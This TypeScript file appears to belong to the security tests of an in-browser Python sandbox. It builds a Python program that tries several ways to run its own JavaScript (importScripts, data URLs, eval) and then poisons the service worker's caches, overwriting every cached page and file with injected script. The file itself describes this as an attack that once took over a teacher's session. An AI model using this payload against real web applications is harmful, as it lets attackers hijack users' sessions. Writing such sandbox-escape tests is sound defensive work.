/** The program that once took over a teacher's session: it plants a script where the service worker looks. */
import { attackFromWorker } from './attacks.ts'

const PLANT = `
self.planted = 'not yet'
;(async () => {
  const text = () => new Response('globalThis.owned = true', { headers: { 'content-type': 'text/javascript' } })
  for (const name of ['files', 'pages']) {
    const cache = await caches.open(name)
    for (const key of await cache.keys()) await cache.put(key, text())
    await cache.put('/owned.js', text())
  }
  self.planted = 'planted'
})().catch((error) => { self.planted = 'refused ' + error.name })
`

const quoted = (source: string) => JSON.stringify(source)

/** Straight from Python, and with a script of its own; says what came of it when it is run again. */
export function poisonProgram(origin: string): string {
  const attack = `(${attackFromWorker.toString()})(${JSON.stringify(origin)}).then((found) => { self.attempts = JSON.stringify(found) })`
  return `
import js

def own_script(source):
    blob = js.Blob.new(js.Array.of(source), js.JSON.parse('{"type": "text/javascript"}'))
    for way in (
        lambda: js.importScripts(js.URL.createObjectURL(blob)),
        lambda: js.importScripts("data:text/javascript," + js.encodeURIComponent(source)),
        lambda: js.eval(source),
        lambda: js.Function.new(source)(),
    ):
        try:
            way()
            return
        except BaseException:
            pass
    js.planted = "refused: no script of its own runs"
    js.attempts = "{}"

try:
    js.caches.open("files")
    print("caches: reached")
except BaseException as error:
    print("caches: refused")

if hasattr(js, "planted"):
    print("planted:", js.planted)
    print("attempts:", getattr(js, "attempts", "none"))
else:
    own_script(${quoted(PLANT)})
    own_script(${quoted(attack)})
    print("tried")
`
}
